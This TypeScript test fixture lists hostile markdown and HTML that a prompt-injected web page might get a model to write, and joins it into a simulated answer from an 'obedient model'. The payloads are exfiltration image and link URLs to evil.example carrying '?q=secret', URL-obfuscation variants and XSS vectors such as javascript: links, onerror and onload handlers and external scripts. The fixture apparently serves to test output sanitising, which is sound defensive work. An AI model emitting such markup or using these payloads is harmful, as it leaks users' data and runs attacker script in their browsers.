/** The host that everything hostile leads to. */
export const HOSTILE_HOST = "evil.example";

const EVIL = `https://${HOSTILE_HOST}`;
const SCRIPT = "window.hostileScriptRan = true";

/** What a page may tell a model to write, each in a paragraph of its own; what swallows the rest comes last. */
const HOSTILE_PARAGRAPHS = [
  `![image](${EVIL}/image.png?q=secret)`,
  `[![image in a link](${EVIL}/nested.png)](${EVIL}/around)`,
  `![by reference][pixel]\n\n[pixel]: ${EVIL}/reference.png "title"`,
  `[a link by reference][leak] and [leak][] and [leak]\n\n[leak]: ${EVIL}/?q=secret`,
  `[inline](${EVIL}/inline) [angle](<${EVIL}/a b>) [escaped](https\\://${HOSTILE_HOST}/x)`,
  `[entity](https&#58;//${HOSTILE_HOST}/entity) [host](https://wiki.example.test.${HOSTILE_HOST}/)`,
  `[user](https://wiki.example.test@${HOSTILE_HOST}/) [scheme](//${HOSTILE_HOST}/relative)`,
  `[slashes](https:/\\${HOSTILE_HOST}/) [backslash](https:\\\\${HOSTILE_HOST}/)`,
  `<${EVIL}/autolink> ${EVIL}/bare www.${HOSTILE_HOST} mail@${HOSTILE_HOST}`,
  `[script](javascript:${SCRIPT}) [tab](java\tscript:${SCRIPT}) [entity](javascript&colon;${SCRIPT})`,
  `[data](data:text/html,<script>${SCRIPT}</script>) [vb](vbscript:x) [blob](blob:${EVIL}/x)`,
  `<script>${SCRIPT}</script><script src="${EVIL}/script.js"></script>`,
  `<img src="${EVIL}/raw.png" onerror="${SCRIPT}"><image href="${EVIL}/i.png">`,
  `<svg onload="${SCRIPT}"><image href="${EVIL}/svg.png"/><use href="${EVIL}/use.svg#x"/></svg>`,
  `<iframe src="${EVIL}/frame"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/e">`,
  `<video src="${EVIL}/v" poster="${EVIL}/p"></video><audio src="${EVIL}/a" autoplay></audio>`,
  `<link rel="stylesheet" href="${EVIL}/style.css"><link rel="prefetch" href="${EVIL}/prefetch">`,
  `<link rel="dns-prefetch" href="//${HOSTILE_HOST}"><base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<style>@import "${EVIL}/import.css"; body { background: url(${EVIL}/css.png) }</style>`,
  `<p style="background-image: url('${EVIL}/inline-css.png')" onclick="${SCRIPT}">styled</p>`,
  `<a href="${EVIL}/raw-link" ping="${EVIL}/ping">raw link</a><form action="${EVIL}"><button>go</button></form>`,
  `<details open ontoggle="${SCRIPT}"><summary>s</summary></details><input autofocus onfocus="${SCRIPT}">`,
  `| a | b |\n|---|---|\n| ![cell](${EVIL}/cell.png) | [cell](${EVIL}/cell) |`,
  `[^note]\n\n[^note]: ![footnote](${EVIL}/footnote.png) ${EVIL}/footnote`,
  `# ![heading](${EVIL}/heading.png)\n\n> ![quote](${EVIL}/quote.png)\n\n- [ ] ![task](${EVIL}/task.png)`,
  "```html\n<img src=x onerror=alert(1)>\n```",
  `$$\\href{${EVIL}/math}{x}$$ \`<img src="${EVIL}/code.png">\``,
  `[7] [1][${EVIL}] [1](${EVIL}/cited) [2]: ${EVIL}/definition`,
  `![unclosed](${EVIL}/unclosed`,
  `<img src="${EVIL}/unclosed-tag`,
];

/** A whole answer of an obedient model: one true sentence, and all that it was told to write. */
export const HOSTILE_ANSWER = [
  "The yak shed opens at nine [1], as [the wiki](https://wiki.example.test/yaks) says.",
  ...HOSTILE_PARAGRAPHS,
].join("\n\n");
